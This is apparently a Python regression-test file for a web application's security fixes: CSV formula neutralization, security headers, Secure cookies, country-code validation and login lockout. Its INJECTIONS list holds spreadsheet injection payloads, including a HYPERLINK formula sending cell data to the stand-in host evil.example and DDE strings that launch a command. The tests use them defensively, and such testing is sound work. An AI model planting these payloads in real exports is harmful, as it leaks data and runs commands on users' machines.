"""Regression tests for issue 12's hardening findings, each named for its finding: formula
cells in CSV exports and batch screening output, security headers, Secure cookies behind a
TLS proxy, ISO 3166 `rel_to` codes, and a lockout that never shuts out a whole address."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from httpx import Response
from sqlalchemy.engine import Engine

from npdesk.cli.screening import write_batch
from npdesk.screening.batch import BatchHit
from npdesk.screening.matcher import Query
from npdesk.security.countries import InvalidRelTo, validate_rel_to
from npdesk.security.csvsafe import neutralize
from npdesk.services import audit
from npdesk.services.handovers import ExportFormat, export_handover_list
from npdesk.web.app import create_app
from tests.domain._desk_fixtures import LIAISON, desk
from tests.domain.test_handover_exports import hand, opened
from tests.web.conftest import PASSWORD, add_users, token_for

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_finding_csv_formula_cells_each_leading_character_is_neutralized() -> None:
    for text in INJECTIONS:
        assert neutralize(text) == "'" + text
    for harmless in ("Fictional Gyro Co.", "NPC-2026-001", "a = b", "", "0.9731"):
        assert neutralize(harmless) == harmless
    assert neutralize(7) == 7  # numbers stay numbers


def test_finding_handover_csv_export_wrote_formula_cells_raw(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The list is handed over with its release in one step, as a one-person desk does.
    monkeypatch.setenv("NPDESK_TWO_PERSON_RELEASE", "false")
    engine = desk(tmp_path)
    opened(engine, INJECTIONS[0])
    opened(engine, INJECTIONS[1])
    hand(engine, date(2007, 11, 20))
    text = export_handover_list(engine, LIAISON, 1, ExportFormat.CSV).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    titles = {row[1] for row in rows[3:-1]}
    assert titles == {"'" + INJECTIONS[0], "'" + INJECTIONS[1]}
    assert not any(cell.startswith(("=", "@", "+", "-")) for row in rows for cell in row)


def test_finding_batch_screening_output_wrote_formula_cells_raw(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    rows = [("=1+1", Query(INJECTIONS[0])), ("2", Query("Clean Name Ltd"))]
    hits = [
        [BatchHit("OFAC SDN", "@123", "x", INJECTIONS[1], 0.91, "match", "")],
        [],
    ]
    assert write_batch(target, rows, hits) == 1
    written = list(csv.reader(target.open(encoding="utf-8", newline="")))
    assert written[1][:6] == [
        "'=1+1",
        "'" + INJECTIONS[0],
        "1",
        "OFAC SDN",
        "'@123",
        "'" + INJECTIONS[1],
    ]
    assert written[2][:2] == ["2", "Clean Name Ltd"]


def test_finding_rel_to_accepted_any_string() -> None:
    assert validate_rel_to(["chn", " USA ", "GBR", "CHN"]) == {"CHN", "USA", "GBR"}
    assert validate_rel_to([]) == frozenset()
    for bad in ("X" * 10_000, "NATO", "FVEY", "CN", "ZZZ", "", "C HN"):
        with pytest.raises(InvalidRelTo) as caught:
            validate_rel_to(["CHN", bad])
        message = str(caught.value)
        assert "ISO 3166-1 alpha-3" in message and len(message) < 120
    with pytest.raises(InvalidRelTo, match="at most 20"):
        validate_rel_to(
            [
                "AFG",
                "ALB",
                "DZA",
                "AND",
                "AGO",
                "ARG",
                "ARM",
                "AUS",
                "AUT",
                "AZE",
                "BHS",
                "BHR",
                "BGD",
                "BRB",
                "BLR",
                "BEL",
                "BLZ",
                "BEN",
                "BTN",
                "BOL",
                "BIH",
            ]
        )


# --- the web: headers, cookies, lockout ------------------------------------------------------

TEMPLATES = Path(__file__).resolve().parents[2] / "npdesk" / "web" / "templates"


@pytest.fixture
def web(engine: Engine) -> Iterator[TestClient]:
    add_users(engine)
    with TestClient(create_app(engine), follow_redirects=False) as client:
        yield client


def login_form(client: TestClient, username: str, password: str) -> int:
    page = client.get("/login")
    match = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert match, page.text
    answer = client.post(
        "/login",
        data={"username": username, "password": password, "csrf_token": match.group(1)},
    )
    return answer.status_code


def test_finding_no_csp_frame_or_nosniff_headers(web: TestClient) -> None:
    for path in ("/login", "/healthz", "/static/npdesk.css", "/no/such/page"):
        answer = web.get(path)
        policy = answer.headers["content-security-policy"]
        assert (
            "script-src 'self';" in policy
            and "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";", 1)[0]
        )
        assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy
        assert answer.headers["x-frame-options"] == "DENY"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "same-origin"


def test_finding_api_docs_page_keeps_working_under_the_csp(web: TestClient) -> None:
    headers = token_for(web, "olivia")
    page = web.get("/api/docs", headers=headers)
    assert page.status_code == 200
    inline = re.findall(r"<script>(.*?)</script>", page.text, flags=re.DOTALL)
    assert len(inline) == 1  # FastAPI's Swagger UI start-up script
    digest = base64.b64encode(hashlib.sha256(inline[0].encode()).digest()).decode()
    assert f"'sha256-{digest}'" in page.headers["content-security-policy"]


def test_finding_templates_hold_no_inline_script_for_the_csp_to_block() -> None:
    for template in TEMPLATES.rglob("*.html"):
        text = template.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), template
        assert not re.search(r"\son[a-z]+\s*=", text), template
        assert "javascript:" not in text, template


def cookie_flags(answer: Response, name: str) -> str:
    for header in answer.headers.get_list("set-cookie"):
        if header.startswith(name + "="):
            return header.lower()
    raise AssertionError(f"no {name} cookie in {answer.headers}")


def test_finding_secure_cookies_only_when_the_request_itself_was_https(
    web: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert "secure" not in cookie_flags(web.get("/login"), "npdesk_prelogin").split("; ")
    monkeypatch.setenv("NPDESK_SECURE_COOKIES", "true")  # plain http from a TLS proxy
    web.cookies.clear()
    page = web.get("/login")
    assert "secure" in cookie_flags(page, "npdesk_prelogin").split("; ")
    assert page.headers["strict-transport-security"].startswith("max-age=")
    match = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert match
    # The client keeps a Secure cookie for https only: hand it back as a browser would there.
    web.cookies.set("npdesk_prelogin", page.cookies["npdesk_prelogin"])
    signed_in = web.post(
        "/login",
        data={"username": "olivia", "password": PASSWORD, "csrf_token": match.group(1)},
    )
    assert signed_in.status_code == 303
    assert "secure" in cookie_flags(signed_in, "npdesk_session").split("; ")
    monkeypatch.setenv("NPDESK_SECURE_COOKIES", "perhaps")
    with pytest.raises(ValueError, match="NPDESK_SECURE_COOKIES"):
        create_app(web.app.state.engine)  # type: ignore[attr-defined]


def test_finding_failed_logins_from_one_address_locked_out_everyone_behind_it(
    engine: Engine,
) -> None:
    add_users(engine)
    app = create_app(engine)
    office = TestClient(app, follow_redirects=False, client=("10.20.30.40", 50000))
    elsewhere = TestClient(app, follow_redirects=False, client=("10.99.0.1", 50000))
    # 21 failures from the office's shared address, by people mistyping and one guessing.
    for name in ("amy", "bob", "carl", "dora", "eve", "finn", "gus", "hana", "ivan", "jo"):
        assert login_form(office, name, "wrong password!!") == 401
    for _ in range(4):
        assert login_form(office, "rita", "wrong password!!") == 401
    for _ in range(7):
        assert login_form(office, "olivia", "wrong password!!") == 401
    # The address is not shut: rita, 4 failures there, and li sign in from it.
    assert login_form(office, "rita", PASSWORD) == 303
    assert login_form(office, "li", PASSWORD) == 303
    # olivia, guessed at 7 times from there, is locked out from there only, answered alike.
    assert login_form(office, "olivia", PASSWORD) == 401
    assert login_form(elsewhere, "olivia", PASSWORD) == 303
    reasons = [
        e["detail"].get("reason")
        for e in audit.export(engine)
        if e["action"] == "auth.login" and e["actor"] == "olivia" and e["outcome"] == "denied"
    ]
    assert reasons.count("too many failures for this account from this address") == 3


def test_finding_a_ten_thousand_character_rel_to_was_stored_on_a_case(engine: Engine) -> None:
    from tests.web.conftest import add_users, token_for

    add_users(engine)  # olivia: home officer
    with TestClient(create_app(engine), follow_redirects=False) as client:
        auth = token_for(client, "olivia")
        case = {"title": "FICTIONAL case", "classification": "C"}
        bad = client.post("/api/v1/cases", json={**case, "rel_to": ["X" * 10_000]}, headers=auth)
        good = client.post("/api/v1/cases", json={**case, "rel_to": ["gbr"]}, headers=auth)
        listed = client.get("/api/v1/cases", params={"limit": "100"}, headers=auth).text
    assert bad.status_code == 422 and "ISO 3166" in bad.text and "X" * 100 not in bad.text
    assert good.status_code in (200, 201), good.text
    assert "X" * 100 not in listed and "GBR" in good.text
